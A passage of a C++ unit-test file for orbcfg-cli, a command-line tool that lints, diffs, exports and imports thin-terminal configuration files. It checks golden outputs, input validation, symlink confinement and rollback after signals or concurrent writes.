// orbcfg-cli over a folder of terminal files: lint, which, diff, export and import. The fleet
// under tests/data/fleet/terminals plants each finding once; its golden outputs stand beside it.
#include <csignal>
#include <filesystem>
#include <map>
#include <random>

#include "fileio/fileio.h"
#include "model/catalogue.h"
#include "model/fleet.h"
#include "model/fleet_disk.h"
#include "model/lint.h"
#include "model/text.h"
#include "model/writer.h"
#include "tests/cli_support.h"
#include "tests/fleet_gen.h"

#ifndef _WIN32
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#endif

using namespace orbex;
using namespace orbex::testing;
namespace fs = std::filesystem;

namespace {

const fs::path kData = fs::path(ORBCFG_TEST_DATA) / "fleet";

// Every file of the folder with its bytes.
std::map<std::string, std::string> snapshot(const TempDir& dir) {
    std::map<std::string, std::string> files;
    for (const std::string& name : dir.names()) files[name] = slurp(dir / name);
    return files;
}

// The fixture fleet in a temporary folder, with a lower-case twin of one MAC file (kept out of
// the repository: it could not be checked out on a file system that ignores case).
void copyFleet(const TempDir& dir) {
    for (const auto& e : fs::directory_iterator(kData / "terminals"))
        fs::copy_file(e.path(), dir.path() / e.path().filename());
#ifndef _WIN32
    // Windows ignores case in names: the twin would overwrite the file it is a twin of.
    spit(dir / "aa^bb^cc^dd^ee^01.cfg", "USERN='twin'\r\n");
#endif
}

std::string golden(const char* name) {
    return slurp(kData / name);
}

// The golden lint of copyFleet's folder. On Windows that folder has no twin, and so one file
// less and no duplicate-mac finding; the rest is the same to the byte.
std::string lintGolden(const char* name) {
    std::string text = golden(name);
#ifdef _WIN32
    std::string kept;
    std::size_t start = 0;
    for (std::size_t end; (end = text.find('\n', start)) != std::string::npos; start = end + 1) {
        const std::string line = text.substr(start, end + 1 - start);
        // The twin's finding and its group go; the later groups come one place earlier.
        if (line.find("duplicate-mac") != std::string::npos ||
            line.find("\"aa^bb^cc^dd^ee^01.cfg\"") != std::string::npos)
            continue;
        std::string moved = line;
        for (const char* n : {"1", "2"}) {
            const std::string from = std::string("\"group\": ") + n + "}";
            if (const auto at = moved.find(from); at != std::string::npos)
                moved.replace(at, from.size(),
                              "\"group\": " + std::to_string(std::stoi(n) - 1) + "}");
        }
        kept += moved;
    }
    text = kept;
    const std::string ten = "\"files\": 10,";
    if (const auto at = text.find(ten); at != std::string::npos)
        text.replace(at, ten.size(), "\"files\": 9,");
#endif
    return text;
}

}  // namespace

TEST(Fleet, LintGolden) {
    TempDir dir;
    copyFleet(dir);
    Result r = runCli({"lint", dir.path().string(), "--format", "json"});
    EXPECT_EQ(r.code, 1);
    EXPECT_EQ(r.err, "");
    EXPECT_EQ(r.out, lintGolden("lint.json"));
    r = runCli({"lint", dir.path().string()});
    EXPECT_EQ(r.code, 1);
    EXPECT_EQ(r.out, lintGolden("lint.txt"));
    // Each code of the fixed set once at least.
    for (const char* code : {"ignored-line", "reset-value", "duplicate-mac", "duplicate-ip",
                             "duplicate-name", "bad-mac-name"})
        EXPECT_NE(golden("lint.json").find(std::string("\"code\": \"") + code), std::string::npos)
            << code;
}

TEST(Fleet, LintExitCodesAndFolders) {
    TempDir dir;
    Result r = runCli({"lint", dir.path().string(), "--format=json"});
    EXPECT_EQ(r.code, 0);
    EXPECT_EQ(r.out, "{\"files\": 0, \"findings\": [], \"groups\": []}\n");
    spit(dir / "a.cfg", "USERN='a'\r\nIP='10.0.0.1'\r\n");
    spit(dir / "notes.txt", "IP='10.0.0.1'\n");  // not a configuration file
    fs::create_directory(dir / "sub");
    spit(dir / "sub/b.cfg", "IP='10.0.0.1'\n");
    EXPECT_EQ(runCli({"lint", dir.path().string()}).code, 0);
    // With -r the subfolder counts, by its relative path.
    r = runCli({"lint", "-r", dir.path().string()});
    EXPECT_EQ(r.code, 1);
    EXPECT_EQ(r.out,
              "a.cfg:2: duplicate-ip: IP: '10.0.0.1' is also set by sub/b.cfg\n"
              "sub/b.cfg:1: duplicate-ip: IP: '10.0.0.1' is also set by a.cfg\n");
    // Folders and dangling links by a file's name are no files. (Windows makes symbolic links
    // only with a privilege, MinGW's C++ library makes none, and Wine only pretends to: the
    // links are tested on Linux.)
    fs::create_directory(dir / "c.cfg");
#ifndef _WIN32
    fs::create_symlink(dir / "gone", dir / "d.cfg");
#endif
    r = runCli({"lint", "-r", dir.path().string()});
    EXPECT_EQ(r.code, 1);
    EXPECT_EQ(r.err, "");
}

// A folder's configuration files are the names with the extension ".cfg", in that case: not a
// name that is the extension alone, nor one that merely holds it.
TEST(Fleet, ListedFilesHaveTheCfgExtension) {
    TempDir dir;
    for (const char* name : {"a.cfg", ".cfg", "..cfg", "b.CFG", "c.cfg.bak", "d.cfgx", "e.x.cfg"})
        spit(dir / name, "");
    fs::create_directory(dir / "sub");
    spit(dir / "sub/f.cfg", "");
    spit(dir / "sub/.cfg", "");
    std::string error;
    EXPECT_EQ(fleet::listFiles(dir.path().string(), false, error),
              (std::vector<std::string>{"..cfg", "a.cfg", "e.x.cfg"}));
    EXPECT_EQ(fleet::listFiles(dir.path().string(), true, error),
              (std::vector<std::string>{"..cfg", "a.cfg", "e.x.cfg", "sub/f.cfg"}));
}

TEST(Fleet, LintOfUnreadableFileFailsButReportsTheRest) {
    TempDir dir;
    spit(dir / "a.cfg", "IP='10.0.0.1'\n");
    spit(dir / "b.cfg", "IP='10.0.0.1'\n");
    spit(dir / "c.cfg", "IP='10.0.0.1'\n");
    const fleet::ReadFile failing = [](const std::string& path, std::string& error) {
        if (path.ends_with("b.cfg")) {
            error = "Input/output error";
            return std::optional<std::string>();
        }
        return std::optional<std::string>(slurp(path));
    };
    std::string error;
    const auto f = fleet::load(dir.path().string(), failing, {}, error);
    ASSERT_TRUE(f);
    EXPECT_EQ(f->unreadable, 1u);
    EXPECT_EQ(f->records[1].error, "Input/output error");
    ASSERT_EQ(f->findings.size(), 2u);
    EXPECT_EQ(fleet::message(f->findings[0], f->records, f->groups),
              "'10.0.0.1' is also set by c.cfg");
}

// The tool reads a folder's files ahead of their check, many more than it holds at once: the
// findings come in file order as when the unreadable file is not there at all, and that file
// has its one line on standard error and the exit code 2.
TEST(Fleet, LintOfManyFilesReadAheadKeepsOrderAndFailures) {
    TempDir dir;
    for (int i = 0; i < 100; ++i) {
        char name[16];
        std::snprintf(name, sizeof name, "t%03d.cfg", i);
        spit(dir / name, "IP='10.0.0." + std::to_string(i % 40 + 1) + "'\r\nMNAME='t" +
                             std::to_string(i) + "'\r\n" + (i % 7 == 0 ? "usern='x'\r\n" : ""));
    }
    fs::resize_file(u8(dir / "t050.cfg"), fileio::kInputLimit + 1);  // sparse, too large
    const Result r = runCli({"lint", dir.path().string()});
    EXPECT_EQ(r.code, 2);
    // Named once, as every message of the tool names a file of the folder on either system.
    EXPECT_EQ(r.err, "orbcfg-cli: cannot read '" + dir.path().string() +
                         "/t050.cfg': larger than 16 MiB: not a terminal configuration\n");
    fs::remove(u8(dir / "t050.cfg"));
    const Result without = runCli({"lint", dir.path().string()});
    EXPECT_EQ(without.code, 1);
    EXPECT_EQ(r.out, without.out);
    EXPECT_NE(r.out.find("t099.cfg:1: duplicate-ip"), std::string::npos);
}

TEST(Fleet, CommandLineErrors) {
    TempDir dir;
    spit(dir / "a.cfg", "USERN='a'\n");
    for (const auto& [args, message] :
         std::vector<std::pair<std::vector<std::string>, std::string>>{
             {{"lint"}, "lint takes one DIR"},
             {{"lint", dir.path().string(), "--format", "xml"},
              "unknown format 'xml': text or json"},
             {{"lint", dir / "none"},
              "cannot read folder '" + (dir / "none") + "': No such file or directory"},
             {{"lint", dir / "a.cfg"},
              "cannot read folder '" + (dir / "a.cfg") + "': not a folder"},
             {{"which", dir.path().string(), "--mac", "aa:bb"}, "'aa:bb' is not a MAC address"},
             {{"which", dir.path().string(), "--order", "mac,disk"},
              "unknown source 'disk' in --order: mac, name, default"},
             {{"which", dir.path().string(), "--order", "mac,mac"}, "'mac' given twice in --order"},
             {{"which", dir.path().string(), "--name", "a/b"}, "'a/b' is not a computer name"},
             {{"which", dir.path().string(), "--mac"}, "option '--mac' needs a value"},
             {{"diff", dir / "a.cfg"}, "diff takes two FILEs"},
             {{"diff", "-", "-"}, "only one FILE may be -"},
             {{"diff", dir / "a.cfg", dir / "b.cfg"},
              "cannot read '" + (dir / "b.cfg") + "': No such file or directory"},
             {{"export"}, "export takes one DIR"},
             {{"import", dir / "a.csv"}, "import needs -d DIR"},
             {{"import", "-d", dir.path().string()}, "import takes one CSV"},
             {{"import", dir / "a.csv", "-d", dir.path().string()},
              "cannot read '" + (dir / "a.csv") + "': No such file or directory"},
             {{"import", "-", "-d", dir / "none"},
              "cannot read folder '" + (dir / "none") + "': No such file or directory"},
             {{"import", "-", "-d", dir.path().string(), "--force", "--force"},
              "option '--force' given twice"},
         }) {
        const Result r = runCli(args);
        EXPECT_EQ(r.code, 2) << message;
        EXPECT_EQ(r.err.substr(0, r.err.find('\n')), "orbcfg-cli: " + message);
    }
}

TEST(Fleet, WhichFileATerminalLoads) {
    TempDir dir;
    const std::string d = dir.path().string();
    const auto which = [&](std::vector<std::string> args) {
        args.insert(args.begin(), {"which", d});
        const Result r = runCli(args);
        EXPECT_EQ(r.err, "");
        return std::to_string(r.code) + " " + r.out;
    };
    EXPECT_EQ(which({"--mac", "aa:bb:cc:dd:ee:ff", "--name", "t1"}), "1 ");
    spit(dir / "default.cfg", "");
    EXPECT_EQ(which({"--mac", "aa:bb:cc:dd:ee:ff", "--name", "t1"}), "0 default.cfg\n");
    spit(dir / "t1.cfg", "");
    EXPECT_EQ(which({"--mac", "aa:bb:cc:dd:ee:ff", "--name", "t1"}), "0 t1.cfg\n");
    EXPECT_EQ(which({"--name", "T1"}), "0 default.cfg\n");  // a computer name's file is exact
    spit(dir / "aa^bb^cc^dd^ee^ff.cfg", "");
    EXPECT_EQ(which({"--mac", "AABB.CCDD.EEFF", "--name", "t1"}), "0 aa^bb^cc^dd^ee^ff.cfg\n");
    spit(dir / "AA^BB^CC^DD^EE^FF.cfg", "");  // the upper-case spelling comes first
#ifdef _WIN32
    // Windows ignores case in names: that was the lower-case file, written again, and it is the
    // one file of the MAC.
    EXPECT_EQ(dir.names().size(), 3u);
    EXPECT_EQ(which({"--mac", "aabbccddeeff"}), "0 aa^bb^cc^dd^ee^ff.cfg\n");
#else
    EXPECT_EQ(which({"--mac", "aabbccddeeff"}), "0 AA^BB^CC^DD^EE^FF.cfg\n");
#endif
    EXPECT_EQ(which({"--mac", "aabbccddeeff", "--name", "t1", "--order", "name,mac"}),
              "0 t1.cfg\n");
    EXPECT_EQ(which({"--mac", "aabbccddeeff", "--order", "default"}), "0 default.cfg\n");
    EXPECT_EQ(which({"--mac", "00:00:00:00:00:01", "--order", "mac,name"}), "1 ");
}

// A name that import refuses as a terminal's file name is no computer name to `which` either:
// a terminal never loads a file of that name.
TEST(Fleet, WhichRefusesTheComputerNamesThatImportRefuses) {
    TempDir dir;
    const std::string d = dir.path().string();
    spit(dir / "default.cfg", "");
    for (const std::string name : {"a:b", "a^b", "a/b", "a\\b", " a", "a ", "a\tb", "a\x1b"}) {
        const Result import = runCli({"import", "-", "-d", d}, "name,USERN\n\"" + name + "\",u\n");
        EXPECT_EQ(import.code, 2) << name;
        const Result which = runCli({"which", d, "--name", name});
        EXPECT_EQ(which.code, 2) << name;
        EXPECT_EQ(which.err.substr(0, which.err.find('\n')),
                  "orbcfg-cli: '" + text::printable(name) + "' is not a computer name")
            << name;
        EXPECT_EQ(which.out, "") << name;
    }
    EXPECT_EQ(dir.names().size(), 1u);  // default.cfg alone: nothing was written
    EXPECT_EQ(runCli({"which", d, "--name", "t-1.b"}).out, "default.cfg\n");
}

// A refusal's place and a diff's lines, told in the words and indent the caller gives, as the
// fleet window tells them in Russian.
TEST(Fleet, RefusalPlaceAndDiffLinesInTheCallersWords) {
    TempDir dir;
    const auto read = [](const std::string& path, std::string&) {
        return std::optional<std::string>(slurp(path));
    };
    const fleet::ImportPlan plan =
        fleet::planImport("name,IP\nt1,10.0.0.1\nt2,x\n", dir.path().string(), read, {});
    ASSERT_EQ(plan.refusals.size(), 1u);
    EXPECT_EQ(fleet::placeText(plan.refusals[0]), "row 3, column 2 (IP)");
    const fleet::PlaceWords russian{"строка ", ", столбец ", "файл"};
    EXPECT_EQ(fleet::placeText(plan.refusals[0], russian), "строка 3, столбец 2 (IP)");
    EXPECT_EQ(fleet::placeText(fleet::Refusal{}, russian), "файл");
    EXPECT_EQ(fleet::placeText(fleet::Refusal{}), "");
    fleet::Refusal row2;
    row2.row = 2;
    EXPECT_EQ(fleet::placeText(row2), "row 2");

    const auto none = [](Id) {};
    const auto differences = fleet::diff(fleet::settingsOf("USERN='a'\nIP='10.0.0.1'\n", none),
                                         fleet::settingsOf("USERN='b'\nDNS='10.0.0.2'\n", none));
    EXPECT_EQ(fleet::diffText(differences, "    "),
              "    -USERN='a'\n    +USERN='b'\n    -IP='10.0.0.1'\n    +DNS='10.0.0.2'\n");
    EXPECT_EQ(fleet::diffText({}), "");
}

TEST(Fleet, DiffGoldenAndExitCodes) {
    const std::string a = (kData / "terminals" / "AA^BB^CC^DD^EE^01.cfg").string();
    const std::string b = (kData / "terminals" / "AA^BB^CC^DD^EE^02.cfg").string();
    Result r = runCli({"diff", a, b});
    EXPECT_EQ(r.code, 1);
    EXPECT_EQ(r.out, golden("diff.out"));
    // The same state in other bytes: no difference.
    r = runCli({"diff", a, "-"}, runCli({"normalize", a}).out);
    EXPECT_EQ(r.code, 0);
    EXPECT_EQ(r.out, "");
    // What the review resets is not kept, and is warned about.
    r = runCli({"diff", "-", a}, "IP='10.0..1'\nUSERN='kassa1'\n");
    EXPECT_EQ(r.code, 1);
    EXPECT_EQ(r.out,
              "+MNAME='term01'\n+AUTOSTART='on'\n+TSERV='10.0.0.2'\n+IP='10.0.0.11'\n"
              "+RAZR='1280x1024'\n+CHIPSET='vesa_x'\n");
    EXPECT_EQ(r.err,
              "(stdin): Внимание! Значение параметра IP неверно! Сброшено на значение по "
              "умолчанию\n");
}

TEST(Fleet, ExportGolden) {
    TempDir dir;
    for (const auto& e : fs::directory_iterator(kData / "terminals"))
        fs::copy_file(e.path(), dir.path() / e.path().filename());
    Result r = runCli({"export", dir.path().string()});
    EXPECT_EQ(r.code, 0);
    EXPECT_EQ(r.out, golden("export.csv"));
    // The file is named as DIR "/" FILE on every system, Windows taking "/" too.
    EXPECT_EQ(r.err, dir.path().string() + "/term06.cfg" +
                         ": Внимание! Значение параметра VOLUME неверно! Сброшено на значение по "
                         "умолчанию\n");
    r = runCli({"export", dir.path().string(), "-o", dir / "fleet.csv"});
    EXPECT_EQ(r.code, 0);
    EXPECT_EQ(slurp(dir / "fleet.csv"), golden("export.csv"));
}

TEST(Fleet, ImportWritesWhatTheEditorSaves) {
    TempDir dir;
    const std::string d = dir.path().string();
    // Semicolons and a byte-order mark, as a spreadsheet saves them; MAC in any spelling.
    const std::string csv =
        "\xEF\xBB\xBFmac;USERN;IP;AUTOSTART;CHIPSET;PASSW\r\n"
        "aa:bb:cc:dd:ee:01;kassa1;10.0.0.11;on;auto_x;''\r\n"
        "AABB.CCDD.EE02;;10.0.0.12;;;\r\n"
        ";;;;;\r\n";
    Result r = runCli({"import", "-", "-d", d, "--dry-run"}, csv);
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(r.out, "new AA^BB^CC^DD^EE^01.cfg\nnew AA^BB^CC^DD^EE^02.cfg\n");
    EXPECT_EQ(dir.names(), std::vector<std::string>{});
    r = runCli({"import", "-", "-d", d}, csv);
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(r.out, "");
    EXPECT_EQ(slurp(dir / "AA^BB^CC^DD^EE^01.cfg"),
              runCli({"normalize", "-"},
                     "USERN='kassa1'\nIP='10.0.0.11'\nAUTOSTART='on'\nCHIPSET='auto'\nX='on'\n"
                     "PASSW=''\n")
                  .out);
    EXPECT_EQ(slurp(dir / "AA^BB^CC^DD^EE^02.cfg"),
              runCli({"normalize", "-"}, "IP='10.0.0.12'").out);

    // Again: the same; with a change, refused unless forced.
    EXPECT_EQ(runCli({"import", "-", "-d", d, "-n"}, csv).out,
              "same AA^BB^CC^DD^EE^01.cfg\nsame AA^BB^CC^DD^EE^02.cfg\n");
    const std::string edit =
        "mac;USERN;IP;AUTOSTART;CHIPSET;PASSW\n"
        "aa:bb:cc:dd:ee:01;kassa1;10.0.0.11;on;auto_x;''\naa:bb:cc:dd:ee:02;new;;;;\n";
    r = runCli({"import", "-", "-d", d}, edit);
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.err,
              "orbcfg-cli: (stdin): row 3, column 1 (mac): AA^BB^CC^DD^EE^02.cfg exists and would "
              "change (--force replaces it); nothing written\n");
    EXPECT_EQ(runCli({"import", "-", "-d", d, "--dry-run", "--force"}, edit).out,
              "same AA^BB^CC^DD^EE^01.cfg\nchanged AA^BB^CC^DD^EE^02.cfg\n");
    EXPECT_EQ(runCli({"import", "-", "-d", d, "--force"}, edit).code, 0);
    EXPECT_EQ(slurp(dir / "AA^BB^CC^DD^EE^02.cfg"), runCli({"normalize", "-"}, "USERN='new'").out);
}

// A dry run shows the whole plan, whatever it meets: every target, every refusal in row order;
// exit 0 when it would be written as asked, 1 when only --force would write it, 2 for a refusal.
TEST(Fleet, DryRunShowsThePlanAndWhatItNeeds) {
    TempDir dir;
    const std::string d = dir.path().string();
    spit(dir / "a.cfg", runCli({"normalize", "-"}, "USERN='a'").out);
    spit(dir / "b.cfg", "USERN='old'\r\n");
    const auto before = snapshot(dir);
    const std::string csv = "name,USERN\na,a\nb,new\nc,c\n";
    Result r = runCli({"import", "-", "-d", d, "--dry-run"}, csv);
    EXPECT_EQ(r.code, 1) << r.err;
    EXPECT_EQ(r.out,
              "same a.cfg\nchanged b.cfg\nnew c.cfg\n"
              "--force is needed to write it: 1 file(s) would change\n");
    EXPECT_EQ(r.err, "");
    r = runCli({"import", "-", "-d", d, "--dry-run", "--force"}, csv);
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(r.out, "same a.cfg\nchanged b.cfg\nnew c.cfg\n");

    // Refusals among the targets, by row; one line on standard error, as without --dry-run.
    r = runCli({"import", "-", "-d", d, "-n"}, "name,USERN,IP\na,a,\nb,it's,\nc,c,\nd,d,10.0..1\n");
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.out,
              "same a.cfg\n"
              "refused row 3, column 2 (USERN): USERN cannot hold a single quote or a line break\n"
              "new c.cfg\n"
              "refused row 5, column 3 (IP): IP: '10.0..1' is not an IPv4 address\n");
    EXPECT_EQ(r.err,
              "orbcfg-cli: (stdin): row 3, column 2 (USERN): USERN cannot hold a single quote or a "
              "line break; and 1 more refusal(s); nothing written\n");
    r = runCli({"import", "-", "-d", d, "-n"}, "name,USRN\na,a\n");
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.out, "refused row 1, column 2 (USRN): 'USRN' is not a key\n");
    EXPECT_EQ(snapshot(dir), before);

    // The README's bulk edit: export, change a column, see the plan, then write it.
    ASSERT_EQ(runCli({"export", d, "-o", dir / "fleet.csv"}).code, 0);
    std::string edited = slurp(dir / "fleet.csv");
    edited.replace(edited.find("old"), 3, "new");
    const std::string out = dir.path().string() + "-fleet.csv";
    spit(out, edited);
    fs::remove(dir / "fleet.csv");
    r = runCli({"import", out, "-d", d, "--dry-run"});
    fs::remove(out);
    EXPECT_EQ(r.code, 1) << r.err;
    EXPECT_EQ(r.out,
              "same a.cfg\nchanged b.cfg\n--force is needed to write it: 1 file(s) would change\n");
}

// A name is written as its cell gives it: a file cell in its own case (a lower-case MAC file
// beside the upper-case one is another file on Linux), blanks around a name refused rather
// than trimmed away.
TEST(Fleet, ImportNamesFilesExactly) {
    TempDir dir;
    const std::string d = dir.path().string();
    spit(dir / "AA^BB^CC^00^00^01.cfg", "USERN='upper'\r\n");
#ifndef _WIN32
    spit(dir / "aa^bb^cc^00^00^01.cfg", "USERN='lower'\r\n");
#endif
    const Result exported = runCli({"export", d});
    ASSERT_EQ(exported.code, 0) << exported.err;
    TempDir empty;
    Result r = runCli({"import", "-", "-d", empty.path().string()}, exported.out);
    EXPECT_EQ(r.code, 0) << r.err;
    for (const std::string& name : dir.names())
        EXPECT_EQ(slurp(empty / name), runCli({"normalize", dir / name}).out) << name;
    EXPECT_EQ(empty.names(), dir.names());
    // Into the folder itself: its own files, each the same.
    r = runCli({"import", "-", "-d", d, "--force", "--dry-run"}, exported.out);
    EXPECT_EQ(r.code, 0) << r.err;
#ifndef _WIN32
    EXPECT_EQ(r.out, "changed AA^BB^CC^00^00^01.cfg\nchanged aa^bb^cc^00^00^01.cfg\n");
#endif
    // A mac cell makes the upper-case name.
    r = runCli({"import", "-", "-d", empty.path().string(), "-n", "-f"},
               "mac,USERN\naa:bb:cc:00:00:02,x\n");
    EXPECT_EQ(r.out, "new AA^BB^CC^00^00^02.cfg\n");

    // The tab is shown escaped, as every control character in a message.
    for (const auto& [cell, shown] : std::vector<std::pair<std::string, std::string>>{
             {" a.cfg", " a.cfg"}, {"a.cfg ", "a.cfg "}, {"\ta.cfg", "\\ta.cfg"}}) {
        r = runCli({"import", "-", "-d", empty.path().string()},
                   "file,USERN\n\"" + cell + "\",u\n");
        EXPECT_EQ(r.code, 2) << cell;
        EXPECT_EQ(r.err, "orbcfg-cli: (stdin): row 2, column 1 (file): '" + shown +
                             "' has blanks at its start or end; nothing written\n");
    }
    r = runCli({"import", "-", "-d", empty.path().string()}, "name,USERN\n\" t1\",u\n");
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.err,
              "orbcfg-cli: (stdin): row 2, column 1 (name): ' t1' has blanks at its start or end; "
              "nothing written\n");
}

#ifndef _WIN32  // the tests make no symbolic links on Windows
// Links in the folder are written through, never out of it: a link that leads outside is
// refused, two rows that reach one file are refused, and a put-back leaves the link as it was.
TEST(Fleet, ImportThroughSymbolicLinks) {
    TempDir top;
    fs::create_directory(top / "tftp");
    fs::create_directory(top / "outside");
    const std::string d = top / "tftp";
    fs::create_symlink("../outside/escaped.cfg", top / "tftp/t1.cfg");  // dangling
    Result r = runCli({"import", "-", "-d", d, "--dry-run"}, "name,USERN\nt1,u\n");
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.out,
              "refused row 2, column 1 (name): t1.cfg is a symbolic link that leads out of "
              "the folder\n");
    r = runCli({"import", "-", "-d", d}, "name,USERN\nt0,u\nt1,u\n");
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.err,
              "orbcfg-cli: (stdin): row 3, column 1 (name): t1.cfg is a symbolic link that "
              "leads out of the folder; nothing written\n");
    spit(top / "outside/real.cfg", "USERN='x'\r\n");
    fs::create_symlink("../outside/real.cfg", top / "tftp/t2.cfg");
    r = runCli({"import", "-", "-d", d, "--force"}, "name,USERN\nt2,u\n");
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(slurp(top / "outside/real.cfg"), "USERN='x'\r\n");
    EXPECT_EQ(top.names(), (std::vector<std::string>{"outside", "tftp"}));
    EXPECT_FALSE(fs::exists(top / "outside/escaped.cfg"));
    fs::remove(top / "tftp/t1.cfg");
    fs::remove(top / "tftp/t2.cfg");

    // A MAC file linked to the computer name's file: one file, two rows refused.
    spit(top / "tftp/kassa01.cfg", "USERN='k'\r\n");
    fs::create_symlink("kassa01.cfg", top / "tftp/00^1A^2B^3C^4D^01.cfg");
    r = runCli({"import", "-", "-d", d, "--force"},
               "file,USERN\n00^1A^2B^3C^4D^01.cfg,a\nkassa01.cfg,b\n");
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.err,
              "orbcfg-cli: (stdin): row 3, column 1 (file): kassa01.cfg is the same file as "
              "00^1A^2B^3C^4D^01.cfg, the target of row 2; nothing written\n");
    EXPECT_EQ(slurp(top / "tftp/kassa01.cfg"), "USERN='k'\r\n");
    // One row through the link writes the file it leads to; the link stays.
    r = runCli({"import", "-", "-d", d, "--force"}, "mac,USERN\n00:1a:2b:3c:4d:01,a\n");
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_TRUE(fs::is_symlink(top / "tftp/00^1A^2B^3C^4D^01.cfg"));
    EXPECT_EQ(slurp(top / "tftp/kassa01.cfg"), runCli({"normalize", "-"}, "USERN='a'").out);

    // A dangling link inside the folder: the file it names is made, and a failed import
    // removes that file again, not the link.
    fs::create_symlink("made.cfg", top / "tftp/t3.cfg");
    {
        struct Hooked {
            Hooked() {
                fileio::seam::setHook([n = 0](fileio::seam::Step s, std::size_t&) mutable {
                    return s == fileio::seam::Step::Rename && ++n == 2 ? ENOSPC : 0;
                });
            }
            ~Hooked() { fileio::seam::setHook({}); }
        } hooked;
        r = runCli({"import", "-", "-d", d}, "name,USERN\nt3,u\nt4,u\n");
    }
    EXPECT_EQ(r.code, 2);
    EXPECT_TRUE(fs::is_symlink(top / "tftp/t3.cfg"));
    EXPECT_FALSE(fs::exists(top / "tftp/made.cfg"));
    EXPECT_FALSE(fs::exists(top / "tftp/t4.cfg"));
    r = runCli({"import", "-", "-d", d}, "name,USERN\nt3,u\n");
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_TRUE(fs::is_symlink(top / "tftp/t3.cfg"));
    EXPECT_EQ(slurp(top / "tftp/made.cfg"), runCli({"normalize", "-"}, "USERN='u'").out);
}
#endif

// Another writer's file is never replaced: one made or changed between the plan and the write
// fails the import, and what it wrote before is put back.
TEST(Fleet, ImportLeavesAnotherWritersFile) {
    TempDir dir;
    const std::string d = dir.path().string();
    spit(dir / "b.cfg", "USERN='old'\r\n");
    struct Case {
        const char* name;
        const char* file;  // written by the other writer as the new files are flushed
        const char* reason;
    };
    for (const Case& c : {Case{"a new file made meanwhile", "c.cfg", "created"},
                          Case{"a changed file changed meanwhile", "b.cfg", "changed"}}) {
        const auto before = snapshot(dir);
        struct Hooked {
            explicit Hooked(std::string path) {
                fileio::seam::setHook([path](fileio::seam::Step s, std::size_t&) {
                    if (s == fileio::seam::Step::Sync) spit(path, "theirs");
                    return 0;
                });
            }
            ~Hooked() { fileio::seam::setHook({}); }
        };
        Result r;
        {
            Hooked hooked(dir / c.file);
            r = runCli({"import", "-", "-d", d, "--force"}, "name,USERN\na,1\nb,2\nc,3\n");
        }
        EXPECT_EQ(r.code, 2) << c.name;
        EXPECT_EQ(r.err, "orbcfg-cli: cannot write " + std::string(c.file) + ": " + c.reason +
                             " by another program since it was read\n")
            << c.name;
        auto expected = before;
        expected[c.file] = "theirs";
        EXPECT_EQ(snapshot(dir), expected) << c.name;
        fs::remove(dir / "c.cfg");
        spit(dir / "b.cfg", "USERN='old'\r\n");
    }
}

#ifndef _WIN32
// SIGINT, SIGTERM or SIGHUP sent to a real child while its import writes its files or renames
// them: the child puts back what it renamed and removes its temporary files, then ends by that
// signal; the folder is as it was.
TEST(Fleet, SignalDuringAnImportPutsEverythingBack) {
    constexpr int kOldFiles = 100, kRows = 200;
    std::string csv = "name,USERN\n";
    for (int i = 0; i < kRows; ++i)
        csv += "t" + std::to_string(i) + ",new" + std::to_string(i) + "\n";
    struct Case {
        int sig;
        fileio::seam::Step step;
        int at;  // the signal comes at this step's call
    };
    for (const Case& c :
         {Case{SIGTERM, fileio::seam::Step::Rename, 150},
          Case{SIGINT, fileio::seam::Step::Rename, 20}, Case{SIGHUP, fileio::seam::Step::Rename, 1},
          Case{SIGTERM, fileio::seam::Step::Write, 120}}) {
        TempDir dir;
        for (int i = 0; i < kOldFiles; ++i)
            spit(dir / ("t" + std::to_string(i) + ".cfg"), "USERN='old'\r\n");
        const auto before = snapshot(dir);
        int ready[2];
        ASSERT_EQ(::pipe(ready), 0);
        const pid_t pid = ::fork();
        ASSERT_GE(pid, 0);
        if (pid == 0) {
            ::close(ready[0]);
            for (int s : {SIGINT, SIGTERM, SIGHUP}) ::signal(s, SIG_DFL);
            fileio::seam::setHook([&, n = 0](fileio::seam::Step s, std::size_t&) mutable {
                if (s == c.step && ++n == c.at) {
                    (void)!::write(ready[1], "r", 1);
                    // Until the signal is there, held off.
                    for (int waited = 0; fileio::DeferSignals::pending() == 0 && waited < 5000;
                         ++waited)
                        ::usleep(1000);
                }
                return 0;
            });
            runCli({"import", "-", "-d", dir.path().string(), "--force"}, csv);
            ::_exit(0);
        }
        ::close(ready[1]);
        char byte = 0;
        ASSERT_EQ(::read(ready[0], &byte, 1), 1);
        ::close(ready[0]);
        ::kill(pid, c.sig);
        int status = 0;
        ASSERT_EQ(::waitpid(pid, &status, 0), pid);
        EXPECT_TRUE(WIFSIGNALED(status) && WTERMSIG(status) == c.sig)
            << c.sig << " at " << c.at << ": status " << status;
        EXPECT_EQ(snapshot(dir), before) << c.sig << " at " << c.at;
    }
}
#endif

#ifndef _WIN32
// An import that waits for the edit lock of a file it changes (an edit in place holds it) can
// still be ended by a signal: it puts back what it renamed and ends by that signal.
TEST(Fleet, SignalEndsAnImportWaitingForAnEditLock) {
    TempDir dir;
    std::string csv = "name,USERN\n";
    for (int i = 0; i < 20; ++i) {
        spit(dir / ("t" + std::to_string(i) + ".cfg"), "USERN='old'\r\n");
        csv += "t" + std::to_string(i) + ",new\n";
    }
    const auto before = snapshot(dir);
    fileio::Error e;
    const auto held = fileio::Lock::acquire(dir / "t10.cfg", e);
    ASSERT_TRUE(held) << e.message();
    int ready[2];
    ASSERT_EQ(::pipe(ready), 0);
    const pid_t pid = ::fork();
    ASSERT_GE(pid, 0);
    if (pid == 0) {
        ::close(ready[0]);
        ::signal(SIGTERM, SIG_DFL);
        fileio::seam::setHook([&, n = 0](fileio::seam::Step s, std::size_t&) mutable {
            if (s == fileio::seam::Step::Rename && ++n == 10) (void)!::write(ready[1], "r", 1);
            return 0;
        });
